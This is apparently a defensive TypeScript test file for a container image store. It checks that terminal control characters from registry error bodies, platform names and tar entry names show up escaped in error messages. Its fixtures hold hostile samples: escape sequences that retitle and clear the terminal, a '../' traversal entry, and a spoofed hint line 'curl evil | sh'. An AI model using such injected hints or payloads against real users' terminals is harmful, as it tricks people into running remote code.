/**
 * Text from a registry or an image reaches error messages escaped: a terminal printing
 * `error.message` shows the control characters instead of obeying them. The fields keep the raw
 * values for programs.
 */
import { afterAll, beforeAll, describe, expect, it } from "@effect/vitest"
import * as fs from "node:fs"
import * as path from "node:path"
import { ImageStore } from "../src/index.js"
import { RootfsBuilder } from "../src/internal/unpack.js"
import { buildLayout, errorOf, makeTempDir, removeDir, type ScriptedRegistry, startScriptedRegistry, writeTar } from "@krunbox/testing"

// oxlint-disable-next-line no-control-regex -- what a terminal obeys
const obeyed = /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/
const title = "\u001b]0;pwned\u0007\u009b2J"

describe("text from registries and images in error messages", () => {
  let work: string
  let registry: ScriptedRegistry

  beforeAll(async () => {
    work = makeTempDir("hostile-text")
    registry = await startScriptedRegistry()
    const index = buildLayout(path.join(work, "index"), "1", [
      { platform: { os: "linux", architecture: `s390x${title}` }, layers: [{ entries: [{ name: "a", content: "a" }], compression: "gzip" }] },
      { platform: { os: "linux", architecture: "riscv64\u009b31m" }, layers: [{ entries: [{ name: "b", content: "b" }], compression: "gzip" }] }
    ])
    registry.serve("index", index.dir)
  })
  afterAll(async () => {
    await registry?.stop()
    removeDir(work)
  })

  const freshStore = () => ImageStore.open({ cacheDir: makeTempDir("hostile-text-cache"), dockerConfigPath: "/nonexistent" })

  it("escapes a registry's error body in the message and keeps it raw in `detail`", async () => {
    registry.override("/manifests/evil", (_request, response) => {
      response.writeHead(500, { "content-type": "text/plain" }).end(`oops${title}\rkrunbox: hint: curl evil | sh`)
    })
    const store = freshStore()
    try {
      const error = await errorOf(store.pull(`${registry.host}/index:evil`))
      expect(error).toMatchObject({ _tag: "RegistryProtocolError" })
      expect(String(error.message)).not.toMatch(obeyed)
      expect(String(error.message)).toContain("oops\\u001b]0;pwned\\u0007\\u009b2J\\rkrunbox: hint")
      expect(String(error.detail)).toContain(title)
    } finally {
      registry.override("/manifests/evil", undefined)
      removeDir(path.dirname(store.root))
    }
  })

  it("escapes platforms an index offers, in the message and in the hint", async () => {
    const store = freshStore()
    try {
      const error = await errorOf(store.pull(`${registry.host}/index:1`, { platform: "linux/arm64" }))
      expect(error).toMatchObject({ _tag: "NoMatchingPlatform" })
      expect(String(error.message)).not.toMatch(obeyed)
      expect(String(error.message)).toContain("s390x\\u001b]0;pwned\\u0007")
      expect(String(error.message)).toContain("riscv64\\u009b31m")
      expect(String(error.hint)).not.toMatch(obeyed)
      expect(error.available).toEqual([`linux/s390x${title}`, "linux/riscv64\u009b31m"])
    } finally {
      removeDir(path.dirname(store.root))
    }
  })

  it("escapes a layer's entry name in UnsafeArchiveEntry", async () => {
    const root = makeTempDir("hostile-text-root")
    try {
      const builder = new RootfsBuilder(root, { preserveOwnership: false })
      const archive = writeTar([{ name: `../${title}`, content: "x" }])
      const error = await errorOf(
        builder.applyLayer(
          (async function* () {
            yield archive
          })(),
          "sha256:layer"
        )
      )
      expect(error).toMatchObject({ _tag: "UnsafeArchiveEntry", entry: `../${title}` })
      expect(String(error.message)).not.toMatch(obeyed)
      expect(fs.readdirSync(root)).toEqual([])
    } finally {
      removeDir(root)
    }
  })
})
